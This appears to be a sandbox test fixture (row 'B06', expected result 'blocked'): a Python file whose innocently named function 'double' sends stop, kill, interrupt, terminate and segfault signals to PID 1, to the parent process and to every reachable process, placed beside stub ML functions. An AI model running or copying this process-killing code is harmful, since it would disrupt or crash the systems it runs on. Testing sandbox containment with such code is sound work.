"""Stop and kill everything that can be seen, the first process too."""

import os
import signal

ROW = "B06"
EXPECTED = {"sandbox": "blocked", "process": "not run here"}


def double(x):
    for name in (signal.SIGSTOP, signal.SIGKILL, signal.SIGINT, signal.SIGTERM, signal.SIGSEGV):
        for number in (1, os.getppid(), -1):
            try:
                os.kill(number, name)
            except OSError:
                continue
    return x


def softmax(x):
    return x


def train(f, steps):
    return 0.0
